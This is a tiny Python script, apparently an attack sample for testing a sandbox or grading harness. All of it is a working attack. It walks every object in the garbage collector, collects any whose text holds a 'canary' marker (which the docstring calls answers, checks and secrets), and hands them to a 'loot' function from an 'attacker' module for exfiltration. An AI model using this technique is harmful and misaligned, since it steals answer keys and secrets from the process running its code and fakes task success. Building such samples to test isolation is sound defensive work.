"""Asks the garbage collector for every object, and looks for answers, checks and secrets among them."""

import gc

from attacker import loot

loot(*(str(thing)[:5000] for thing in gc.get_objects() if "canary" in str(thing)[:5000]))
